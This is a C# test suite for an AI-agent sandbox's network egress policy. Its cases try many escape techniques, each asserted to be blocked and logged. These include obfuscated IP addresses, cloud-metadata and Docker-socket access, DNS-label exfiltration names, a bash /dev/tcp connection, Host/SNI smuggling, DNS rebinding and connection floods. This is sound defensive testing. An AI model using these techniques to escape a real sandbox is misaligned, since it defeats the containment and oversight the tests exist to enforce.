using IsolatedAgents.Diagnostics;
using IsolatedAgents.Events;
using IsolatedAgents.Runs;
using static IsolatedAgents.Sandbox.Tests.Setup.Verdicts;

namespace IsolatedAgents.Sandbox.Tests.Egress;

/// <summary>What the policy does not allow is not reached by any way, and each attempt is told.</summary>
[TestClass]
public sealed class EgressAttackTests(TestContext context)
{
    private const int Minute = 60_000;

    private const string Attempt = """
        import socket, sys, time, urllib.request
        def attempt(what):
            began = time.monotonic()
            try: print('done', what())
            except Exception as e: print(type(e).__name__, getattr(e, 'errno', ''))
            print('fast' if time.monotonic() - began < 1 else 'slow')

        """;

    private CancellationToken Token => context.CancellationToken;

    [TestMethod]
    [DataRow("socket.create_connection(('1.1.1.1', 443))", "1.1.1.1:443", DisplayName = "N1 a direct connection")]
    [DataRow("socket.create_connection(('8.8.8.8', 853))", "8.8.8.8:853", DisplayName = "N8 DNS over TLS")]
    [DataRow("urllib.request.urlopen('http://0x01010101/')", "1.1.1.1:80", DisplayName = "N3 hexadecimal")]
    [DataRow("urllib.request.urlopen('http://16843009/')", "1.1.1.1:80", DisplayName = "N3 decimal")]
    [DataRow("urllib.request.urlopen('http://01.01.01.01/')", "1.1.1.1:80", DisplayName = "N3 octal")]
    [DataRow("socket.create_connection(('::ffff:1.1.1.1', 443))", "1.1.1.1:443", DisplayName = "N3 IPv4-mapped")]
    [DataRow("socket.create_connection(('2001:db8::1', 443))", "2001:db8::1:443", DisplayName = "N10 IPv6")]
    [DataRow("socket.create_connection(('allowed.test', 8443))", "allowed.test:8443", DisplayName = "N4 another port of an allowed host")]
    [DataRow("socket.create_connection(('172.17.0.1', 2375))", "172.17.0.1:2375", DisplayName = "N16 the bridge's gateway")]
    [DataRow("socket.create_connection(('169.254.169.254', 80))", "169.254.169.254:80", DisplayName = "N16 the cloud's metadata")]
    [DataRow("socket.create_connection(('198.18.77.7', 443))", "198.18.77.7:443", DisplayName = "an address that stands for no name")]
    [DataRow("socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))", "8.8.8.8:53", DisplayName = "N11 a datagram")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task Destination_IsRefusedAtOnceAndTold(string attempt, string told)
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunStrictAsync(["allowed.test"], $"{Attempt}attempt(lambda: {attempt})", Token);
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.DoesNotStartWith("done", host.Lines[0]);
        Assert.AreEqual("fast", host.Lines[1]);
        Assert.AreEqual(told, Assert.ContainsSingle(host.Blocked));
    }

    [TestMethod]
    [TestProperty("Case", "N2")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task ShellsOwnConnection_IsRefused()
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunStrictAsync(
            ["allowed.test"],
            "import subprocess; print(subprocess.run(['bash', '-c', 'echo > /dev/tcp/1.1.1.1/443'], stderr=subprocess.DEVNULL).returncode)",
            Token
        );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.AreEqual("1", host.Lines[0]);
        Assert.AreEqual("/usr/bin/bash", host.Sandbox.Events.OfType<ViolationNetwork>().Single().Process);
    }

    [TestMethod]
    [TestProperty("Case", "N12")]
    [TestProperty("Case", "N16")]
    [DataRow("allowed.test.evil.test", "allowed.test.evil.test")]
    [DataRow("notallowed.test", "notallowed.test")]
    [DataRow("sub.allowed.test", "sub.allowed.test")]
    [DataRow("EVIL.test.", "evil.test")]
    [DataRow("xn--llowed-6ta.test", "xn--llowed-6ta.test")]
    [DataRow("host.docker.internal", "host.docker.internal")]
    [DataRow("secret.in.a.label.evil.test", "secret.in.a.label.evil.test")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task OtherName_IsNotFoundAndTold(string name, string told)
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunStrictAsync(
            ["allowed.test", "*.wild.test"],
            $"{Attempt}attempt(lambda: socket.gethostbyname('{name}'))",
            Token
        );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.AreEqual("gaierror -2", host.Lines[0]);
        Assert.AreEqual(told, Assert.ContainsSingle(host.Blocked));
        Assert.AreEqual("/usr/bin/python3.11", host.Sandbox.Events.OfType<ViolationNetwork>().Single().Process);
    }

    [TestMethod]
    [TestProperty("Case", "N12")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task HostileName_IsOneLineAndNoName()
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunStrictAsync(
            ["allowed.test"],
            """
            import socket
            def ask(*labels):
                s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(5)
                s.sendto(b'\1\2\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l for l in labels) + b'\0\0\1\0\1', ('127.0.0.1', 53))
                return s.recv(512)[3] & 15
            print(ask(b'allowed', b'test'), ask(b'allowed.test'), ask(b'allowed\0', b'test'), ask(b'a\r\n::error::x', b'test'), ask(b'x' * 63, b'y' * 63, b'z' * 63, b'test'))
            """,
            Token
        );
        AssertVerdict(
            Verdict.PolicyViolation,
            3,
            result,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation
        );
        Assert.AreEqual("0 3 3 3 3", host.Lines[0]);
        Assert.HasCount(4, host.Blocked);
    }

    [TestMethod]
    [TestProperty("Case", "N5")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task OtherHostOrServerName_IsRefused()
    {
        using HostServer server = new(HostServer.AnswerAsync);
        using EgressHost host = new();
        AgentRunResult result = await host.RunAsync(
            [$"allowed.test:{server.Port}"],
            $$"""
            import socket, ssl
            E = ('allowed.test', {{server.Port}})
            s = socket.create_connection(E, 10); s.sendall(b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'); print(s.makefile().read())
            c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
            try: c.wrap_socket(socket.create_connection(E, 10), server_hostname='evil.test')
            except OSError as e: print(type(e).__name__)
            """,
            Token
        );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.IsEmpty(server.Requests);
        string answer = string.Join('\n', host.Lines);
        Assert.StartsWith("HTTP/1.1 403", answer);
        Assert.Contains("network.allowed_endpoints", answer);
        Assert.AreEqual("ConnectionResetError", host.Lines[^1]);
        Assert.HasCount(2, host.Blocked);
        Assert.IsTrue(
            host.Sandbox.Events.OfType<ViolationNetwork>()
                .All(violation => violation.Reason.Contains("evil.test", StringComparison.Ordinal))
        );
    }

    [TestMethod]
    [TestProperty("Case", "N6")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task SecondRequestForAnotherHost_IsRefused()
    {
        using HostServer server = new(HostServer.AnswerAsync);
        using EgressHost host = new();
        AgentRunResult result = await host.RunAsync(
            [$"allowed.test:{server.Port}"],
            $$"""
            import socket
            s = socket.create_connection(('allowed.test', {{server.Port}}), 10); f = s.makefile('rb')
            for name in ('allowed.test:{{server.Port}}', 'evil.test'):
                s.sendall(b'GET / HTTP/1.1\r\nHost: %s\r\n\r\n' % name.encode()); print(f.readline()[:12].decode())
                while f.readline() != b'\r\n': pass
                f.read(5)
            """,
            Token
        );
        CollectionAssert.AreEqual(new[] { "HTTP/1.1 200", "HTTP/1.1 403" }, host.Lines.ToArray(), string.Join("\n", host.Lines));
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.ContainsSingle(server.Requests);
    }

    [TestMethod]
    [TestProperty("Case", "N7")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task LookupsByAnyWay_NeverLeave()
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunClientAsync(
            ["allowed.test"],
            """
            dig +short allowed.test; dig +short +tcp allowed.test; dig +short AAAA allowed.test; dig +noall +comments TXT key.evil.test | grep -o NXDOMAIN
            dig +tcp +noall +comments A tcp.evil.test | grep -o NXDOMAIN; dig +noall +comments +bufsize=4096 CNAME long-label-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.evil.test | grep -o NXDOMAIN
            dig +time=2 +tries=1 @8.8.8.8 evil.test >/dev/null; echo dig $?; dig +short -x 198.18.0.1; dig +short CH TXT version.bind
            """,
            Token
        );
        AssertVerdict(
            Verdict.PolicyViolation,
            3,
            result,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation,
            DiagnosticTable.NetworkViolation
        );
        CollectionAssert.AreEqual(
            new[] { "198.18.0.1", "198.18.0.1", "NXDOMAIN", "NXDOMAIN", "NXDOMAIN", "dig 9" },
            host.Lines.ToArray(),
            string.Join('\n', host.Lines)
        );
        CollectionAssert.AreEquivalent(
            new[] { "key.evil.test", "tcp.evil.test", "long-label-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.evil.test", "8.8.8.8:53" },
            host.Blocked.Distinct().ToArray()
        );
    }

    [TestMethod]
    [TestProperty("Case", "N9")]
    [DataRow("127.0.0.1")]
    [DataRow("10.1.2.3")]
    [DataRow("192.168.1.1")]
    [DataRow("169.254.169.254")]
    [DataRow("fd00:ec2::254")]
    [DataRow("::1")]
    [DataRow("::ffff:127.0.0.1")]
    [DataRow("100.64.0.1")]
    [DataRow("0.0.0.0")]
    [DataRow("224.0.0.1")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task AllowedNameThatLeadsInside_IsRefused(string address)
    {
        using EgressHost host = new();
        AgentRunResult result = await host.Resolve("allowed.test", address)
            .RunStrictAsync(
                ["allowed.test"],
                """
                import urllib.request, urllib.error
                try: urllib.request.urlopen('http://allowed.test/', timeout=10)
                except urllib.error.HTTPError as e: print(e.code, e.read().decode())
                """,
                Token
            );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.StartsWith("403 ", host.Lines[0]);
        Assert.AreEqual("allowed.test:80", Assert.ContainsSingle(host.Blocked));
    }

    [TestMethod]
    [TestProperty("Case", "N13")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task EmptyAllowlist_LetsNothingPass()
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunAsync(
            host.Sandbox.Request("", SandboxHost.PythonImage) with
            {
                Command = null,
                Agent = Script(
                    host,
                    $"{Attempt}attempt(lambda: socket.gethostbyname('a.test'))\nattempt(lambda: socket.create_connection(('198.18.0.1', 80)))"
                ),
            },
            Token
        );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation, DiagnosticTable.NetworkViolation);
        Assert.DoesNotContain("slow", host.Lines);
        CollectionAssert.AreEqual(new[] { "a.test", "198.18.0.1:80" }, host.Blocked.ToArray());
    }

    [TestMethod]
    [TestProperty("Case", "N15")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task RedirectToAnotherHost_IsCheckedAgain()
    {
        using HostServer server = new(HostServer.AnswerAsync);
        using EgressHost host = new();
        AgentRunResult result = await host.RunAsync(
            [$"allowed.test:{server.Port}"],
            $"{Attempt}attempt(lambda: urllib.request.urlopen('http://allowed.test:{server.Port}/redirect'))",
            Token
        );
        AssertVerdict(Verdict.PolicyViolation, 3, result, DiagnosticTable.NetworkViolation);
        Assert.AreEqual("other.test", Assert.ContainsSingle(host.Blocked));
        Assert.ContainsSingle(server.Requests);
    }

    [TestMethod]
    [TestProperty("Case", "N17")]
    [Timeout(2 * Minute, CooperativeCancellation = true)]
    public async Task FloodOfConnections_IsBounded()
    {
        using HostServer server = new(HostServer.AnswerAsync);
        using EgressHost host = new();
        AgentRunResult result = await host.RunAsync(
            [$"allowed.test:{server.Port}"],
            $$"""
            import resource, select, socket, time
            resource.setrlimit(resource.RLIMIT_NOFILE, (16384, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
            address = (socket.gethostbyname('allowed.test'), {{server.Port}})
            kept = []
            for i in range(10000):
                try: s = socket.create_connection(address, 20); kept.append(s); s.sendall(b'GET / HTTP/1.1\r\nHost: ')
                except ConnectionError: pass # over the bound, and closed before this was sent
            def alive():
                p = select.poll()
                for s in kept: p.register(s, select.POLLIN)
                return len(kept) - len(p.poll(0))
            end = time.monotonic() + 20
            while alive() > 40 and time.monotonic() < end: time.sleep(0.05)
            time.sleep(0.5); print('open', alive())
            for s in kept: s.close()
            time.sleep(1)
            s = socket.create_connection(address, 20)
            try: s.sendall(b'GET / HTTP/1.1\r\nX: ' + b'x' * (1 << 20) + b'\r\n\r\n'); print('header', s.recv(12))
            except OSError as e: print('header', type(e).__name__)
            s = socket.create_connection(address, 20); s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test:{{server.Port}}\r\n\r\n'); print('after', s.recv(12).decode())
            """,
            Token,
            ("network.max_connections", "40"),
            ("memory_mb", "512"),
            ("timeout_seconds", "90")
        );
        Assert.AreEqual("open 40", host.Lines[0], string.Join('\n', host.Lines));
        Assert.DoesNotContain("200", host.Lines[1]);
        Assert.AreEqual("after HTTP/1.1 200", host.Lines[2]);
        Assert.IsTrue(result.Violations.All(violation => violation.Subject == $"allowed.test:{server.Port}"));
        Assert.IsLessThan(100, result.Violations.Length, "refusals are told once a second");
        Assert.IsGreaterThanOrEqualTo(
            9960,
            host.Sandbox.Events.OfType<NetworkBlocked>()
                .Where(blocked => blocked.Reason.StartsWith("More than 40", StringComparison.Ordinal))
                .Sum(blocked => blocked.Count)
        );
    }

    [TestMethod]
    [TestProperty("Case", "N18")]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task SocketsOfOthers_CannotBeReached()
    {
        using EgressHost host = new();
        string path = Path.Combine(host.Sandbox.Workspace, "outside.sock");
        using System.Net.Sockets.Socket outside = new(
            System.Net.Sockets.AddressFamily.Unix,
            System.Net.Sockets.SocketType.Stream,
            System.Net.Sockets.ProtocolType.Unspecified
        );
        outside.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(path));
        outside.Listen();
        File.SetUnixFileMode(path, (UnixFileMode)0b111_111_111);
        AgentRunResult result = await host.RunStrictAsync(
            ["allowed.test"],
            $"{Attempt}attempt(lambda: socket.socket(socket.AF_UNIX).connect('/workspace/outside.sock'))\nattempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0isolated-agents-test'))",
            Token
        );
        Assert.DoesNotStartWith("done", host.Lines[0]);
        Assert.AreEqual("ConnectionRefusedError 111", host.Lines[2]);
        Assert.AreNotEqual(Verdict.EngineError, result.Verdict);
    }

    [TestMethod]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task AgentCannotChangeTheNetwork()
    {
        using EgressHost host = new();
        AgentRunResult result = await host.RunStrictAsync(
            ["allowed.test"],
            """
            import socket, struct, fcntl, os
            n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            body = struct.pack('<BBBBI', 2, 32, 0, 254, 1) + struct.pack('<HH4s', 8, 2, bytes([1, 1, 1, 1]))
            n.send(struct.pack('<IHHII', 16 + len(body), 20, 5, 1, 0) + body)
            print(struct.unpack('<i', n.recv(4096)[16:20])[0])
            try: fcntl.ioctl(socket.socket(), 0x8916, struct.pack('16sHH4s8x', b'lo', 2, 0, bytes([1, 1, 1, 1])))
            except OSError as e: print(-e.errno)
            print([l for l in open('/proc/self/status') if l.startswith('Cap')][-2:])
            """,
            Token
        );
        AssertVerdict(Verdict.Passed, 0, result);
        CollectionAssert.AreEqual(new[] { "-1", "-1" }, host.Lines.Take(2).ToArray(), string.Join('\n', host.Lines));
    }

    [TestMethod]
    [Timeout(Minute, CooperativeCancellation = true)]
    public async Task SupervisorHasGivenUpItsRightOverTheNetwork()
    {
        using EgressHost host = new();
        Task<AgentRunResult> run = host.RunStrictAsync(["allowed.test"], "import time; print('up', flush=True); time.sleep(3)", Token);
        await host.Sandbox.WhenLineAsync("up");
        string id = await host.Sandbox.ContainerIdAsync();
        string pid = await DockerCli.RunAsync(Token, "inspect", "--format", "{{.State.Pid}}", id);
        string effective = File.ReadLines($"/proc/{pid.Trim()}/status")
            .Single(line => line.StartsWith("CapEff:", StringComparison.Ordinal))
            .Split('\t')[1];
        Assert.AreEqual(0UL, Convert.ToUInt64(effective, 16) & (1UL << 12), effective);
        AssertVerdict(Verdict.Passed, 0, await run);
    }

    private static string Script(EgressHost host, string script)
    {
        string agent = Path.Combine(host.Sandbox.Root, "script.py");
        File.WriteAllText(agent, script);
        return agent;
    }
}
